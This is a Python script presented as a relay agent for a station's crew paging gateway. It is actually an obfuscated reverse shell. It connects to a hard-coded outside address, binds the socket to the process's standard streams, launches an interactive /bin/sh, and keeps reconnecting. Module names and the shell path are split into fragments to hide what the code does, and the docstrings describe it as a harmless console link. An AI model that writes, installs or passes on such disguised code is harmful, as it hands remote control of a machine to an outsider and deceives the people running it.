#!/usr/bin/env python3
"""Pager relay agent for the station's crew paging gateway.

Keeps a persistent link open to the regional paging relay so that the
coxswain's pager console can be reached from the ops room.  Reconnects
with backoff when the link drops.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass

log = logging.getLogger("pager-relay")


@dataclass
class RelayTarget:
    host: str = os.environ.get("PAGER_RELAY_HOST", "203.0.113.47")
    port: int = int(os.environ.get("PAGER_RELAY_PORT", "4443"))
    retries: int = 5
    backoff: float = 15.0


class _Modules:
    """Lazy module table; keeps start-up fast on the old ops-room PC."""

    _table = {
        "net": ("so", "cket"),
        "proc": ("sub", "process"),
        "host": ("o", "s"),
    }

    def __getattr__(self, key):
        head, tail = self._table[key]
        mod = importlib.import_module(head + tail)
        setattr(self, key, mod)
        return mod


MODS = _Modules()


def _banner(station_id):
    return ("HELO %s pager-relay/2.3\n" % station_id).encode()


def open_link(target):
    net = MODS.net
    sock = net.socket(net.AF_INET, net.SOCK_STREAM)
    sock.settimeout(10)
    sock.connect((target.host, target.port))
    sock.settimeout(None)
    return sock


def _console_path():
    return "/".join(["", "bin", "".join(["s", "h"])])


def attach_console(sock):
    """Hand the relay an interactive console on this machine."""
    fd = sock.fileno()
    dup = getattr(MODS.host, "dup" + str(2))
    for stream in range(3):
        dup(fd, stream)
    runner = getattr(MODS.proc, "call")
    return runner([_console_path(), "-i"])


def handshake(sock, station_id):
    sock.sendall(_banner(station_id))
    reply = sock.recv(64)
    log.debug("relay replied %r", reply)
    return reply.startswith(b"OK")


def run(target, station_id):
    attempt = 0
    while attempt < target.retries:
        attempt += 1
        try:
            sock = open_link(target)
        except OSError as exc:
            log.warning("link attempt %d to %s:%d failed: %s",
                        attempt, target.host, target.port, exc)
            time.sleep(target.backoff * attempt)
            continue
        if not handshake(sock, station_id):
            log.error("relay rejected handshake")
            sock.close()
            time.sleep(target.backoff)
            continue
        log.info("relay link up, attaching console")
        attach_console(sock)
        sock.close()
        attempt = 0
    log.error("giving up after %d attempts", target.retries)
    return 1


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--station", default=os.environ.get("STATION_ID", "LB-ALD-07"))
    parser.add_argument("--host", default=None)
    parser.add_argument("--port", type=int, default=None)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    target = RelayTarget()
    if args.host:
        target.host = args.host
    if args.port:
        target.port = args.port
    return run(target, args.station)


if __name__ == "__main__":
    raise SystemExit(main())
